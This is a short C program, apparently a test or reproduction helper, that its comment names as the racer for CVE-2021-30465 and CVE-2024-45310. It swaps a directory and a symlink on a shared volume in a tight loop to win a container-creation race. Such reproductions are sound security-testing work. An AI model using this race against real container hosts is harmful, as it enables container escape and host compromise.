/* The racer of CVE-2021-30465 and CVE-2024-45310, run inside a container
 * on a volume it shares with a container being created:
 *
 *   swap_race A B STOPFILE
 *
 * exchanges the names A and B (a directory and a symlink) with
 * renameat2(RENAME_EXCHANGE) as fast as it can, so that at any moment a
 * path through A is either the directory or the symlink, until STOPFILE
 * exists. Prints the number of swaps. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/fs.h>

int
main (int argc, char **argv)
{
  unsigned long long swaps = 0;

  if (argc != 4)
    {
      fprintf (stderr, "usage: swap_race A B STOPFILE\n");
      return 2;
    }
  for (;;)
    {
      for (int i = 0; i < 1000; i++)
        if (syscall (SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
          swaps++;
      if (access (argv[3], F_OK) == 0)
        break;
    }
  printf ("swaps=%llu\n", swaps);
  return 0;
}
